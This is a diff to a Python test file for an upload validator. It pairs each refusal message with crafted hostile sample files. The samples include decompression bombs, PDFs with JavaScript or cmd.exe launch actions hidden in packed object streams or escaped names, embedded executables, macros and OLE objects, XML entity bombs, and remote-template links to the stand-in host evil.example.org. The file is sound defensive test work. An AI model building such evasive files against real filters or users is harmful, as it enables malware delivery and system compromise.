@@ -1,5 +1,8 @@
 """What nobody may send, and the sentence it is refused with: one for each reason, so that none passes for another."""
 
+import zlib
+from zipfile import ZIP_STORED
+
 from tests.documents import corpus
 
 REFUSED = {
@@ -70,7 +73,18 @@ REFUSED = {
         "bomb.docx": corpus.bomb(),
         "ratio.docx": corpus.docx(**{"word/a.bin": bytes(4 * 1024 * 1024)}),
         "types.docx": corpus.padded(**{"[Content_Types].xml": f"<a>{'<a/>' * 120_000}</a>"}),
-        "long-types.docx": corpus.padded(**{"[Content_Types].xml": f"<a>{' ' * 600_000}</a>"}),
+        "long-types.docx": corpus.padded(40_000, **{"[Content_Types].xml": f"<a>{' ' * 3_000_000}</a>"}),
+        "relationships.docx": corpus.related(*[("image", "a.png", "Internal")] * 20_001, **{"a": corpus.noise(40_000)}),
+        "holds-bomb.docx": corpus.holding(corpus.bomb()),
+        "holds-crowds.docx": corpus.docx(
+            **{f"word/{n}.xlsx": corpus.xlsx(**{str(part): "" for part in range(900)}) for n in range(2)}
+        ),
+        "holds-much.docx": corpus.padded(
+            90_000, **{f"word/{n}.xlsx": corpus.xlsx(ZIP_STORED, **{"xl/a": bytes(4_200_000)}) for n in range(2)}
+        ),
+        "mimetype.odt": corpus.odt(mimetype=b" " * 3_000_000, **{"a": corpus.noise(40_000)}),
+        "streams.pdf": corpus.pdf((b"/ObjStm stream\n" + zlib.compress(b"1 0 ")) * 5_001),
+        "bomb.pdf": corpus.packed_pdf(b"1 0 " + bytes(4_000_000)),
         "crowd.docx": corpus.crowd(),
         "directory.docx": corpus.huge_directory(),
     },
@@ -85,6 +99,8 @@ REFUSED = {
         "comments-100.docx": corpus.padded(80_000, **{f"word/{n}.xml": "<!--" * 16_384 for n in range(100)}),
         "encoding.docx": corpus.docx(**{"word/a.dat": "<?xml version='1.0' encoding='x'?>" + corpus.BARE_DTD}),
         "seven.docx": corpus.docx(**{"word/a.xml": "<?xml version='1.0' encoding='utf-7'?><a/>"}),
+        "text-other-name.docx": corpus.named("word/document.dat", "no root"),
+        "text-escaped-name.docx": corpus.named("word/document%2Edat", "no root", path="word/document.dat"),
         "text.docx": corpus.docx(**{"word/settings.xml": "no root"}),
         "hidden.docx": corpus.sized_zero(),
         "garbled.docx": corpus.garbled(),
@@ -106,8 +122,57 @@ REFUSED = {
     "This PDF holds a script or starts a program. Print it to a new PDF and send that.": {
         "script.pdf": corpus.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
         "hidden.pdf": corpus.pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"),
+        "packed.pdf": corpus.packed_pdf(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"),
+        "packed-hidden.pdf": corpus.packed_pdf(b"1 0 <</S/J#61vaScript/JS(app.alert(1))>>").replace(
+            b"/ObjStm", b"/Obj#53tm"
+        ),
+        "packed-launch.pdf": corpus.packed_pdf(b"\n12 0\n<</S /Launch /F (cmd.exe)>>"),
+        "packed-second.pdf": corpus.pdf(corpus.packed_pdf(b"1 0 <</A 1>>") + corpus.packed_pdf(b"1 0 <</S/Launch>>")),
+        "packed-across.pdf": corpus.packed_across(),
         "launch.pdf": corpus.pdf(b"<< /S /Launch /F (cmd.exe) >>"),
         "across.pdf": corpus.pdf(b"x" * ((1 << 20) - 55) + b"/JavaScript "),
+    },
+    "Parts of this PDF are packed so that they cannot be looked into. Print it to a new PDF and send that.": {
+        "twice-packed.pdf": corpus.packed_pdf(
+            b"", b"[/ASCIIHexDecode/FlateDecode]", zlib.compress(b"1 0 <</S/JavaScript>>").hex().encode() + b">"
+        ),
+        "packed-twice.pdf": corpus.packed_pdf(b"1 0 <</S/JavaScript>>".hex().encode() + b">"),
+        "predicted.pdf": corpus.packed_pdf(b"\x021 0 <</S/Java\x02Script>>"),
+        "packed-cut.pdf": corpus.packed_pdf(b"", packed=zlib.compress(b"1 0 <</S/JavaScript>>")[:-12]),
+        "packed-to-the-end.pdf": corpus.pdf(b"/ObjStm").replace(
+            b"trailer", b"stream\n" + zlib.compress(b"1 0 " + corpus.noise(99))[:90]
+        ),
+    },
+    "There is a file in this one that would not be taken by itself. Remove it, or save it all as PDF.": {
+        "holds-zip.docx": corpus.holding(corpus.archive({"a.txt": "a"}), "word/embeddings/x.zip"),
+        "holds-zip-as-picture.docx": corpus.holding(corpus.archive({"a.txt": "a"}), "word/media/image1.png"),
+        "holds-ole.docx": corpus.holding(corpus.COMPOUND, "word/embeddings/oleObject1.bin"),
+        "holds-ole-elsewhere.xlsx": corpus.xlsx(**{"xl/a.dat": corpus.COMPOUND}),
+        "holds-ole.odt": corpus.odt(**{"Object 1": corpus.COMPOUND}),
+        "holds-program.docx": corpus.holding(b"MZ" + bytes(100), "word/Embeddings/x.bin"),
+        "holds-rtf.docx": corpus.holding(b"{\\rtf1}", "word/chunk.dat"),
+        "holds-macros.docx": corpus.holding(corpus.macro_docx()),
+        "holds-xxe.docx": corpus.holding(corpus.xlsx(**{"xl/sharedStrings.xml": corpus.LAUGHS})),
+        "holds-template.docx": corpus.holding(corpus.elsewhere("attachedTemplate")),
+        "holds-what-holds.docx": corpus.holding(corpus.holding(corpus.xlsx())),
+    },
+    "This file fetches a template or another file when it is opened. Remove that link, or save it as PDF.": {
+        "template.docx": corpus.elsewhere("attachedTemplate", "https://evil.example.org/x.dotm"),
+        "template-of-settings.docx": corpus.related(
+            ("attachedTemplate", "http://evil.example.org/x.dotm", "external"), of="word/_rels/Settings.xml.RELS"
+        ),
+        "share.docx": corpus.elsewhere("attachedTemplate", r"\\\\evil.example.org\x.dotm"),
+        "share-as-file.docx": corpus.elsewhere("oleObject", "file:///\\\\evil.example.org\\x.xls"),
+        "share-escaped.docx": corpus.elsewhere("oleObject", "%5c%5Cevil.example.org%5cx.xls"),
+        "host.docx": corpus.elsewhere("subDocument", "//evil.example.org/x.docx"),
+        "host-as-file.docx": corpus.elsewhere("subDocument", "file://evil.example.org/c:/x.docx"),
+        "frame.docx": corpus.elsewhere("frame"),
+        "object.docx": corpus.elsewhere("oleObject", "mhtml:http://evil.example.org/x!x-usc:http://evil.example.org/x"),
+        "written-out.docx": corpus.elsewhere("oleObject", "&#104;ttp://evil.example.org/x"),
+        "link.docx": corpus.elsewhere("externalLink"),
+        "book.docx": corpus.elsewhere("externalLinkPath", "https://evil.example.org/x.xlsx"),
+        "chunk.docx": corpus.elsewhere("aFChunk"),
+        "package.docx": corpus.elsewhere("package"),
     },
     "This picture is damaged. Open it, save it again and send the new file.": {
         "cut.png": corpus.png()[:30],
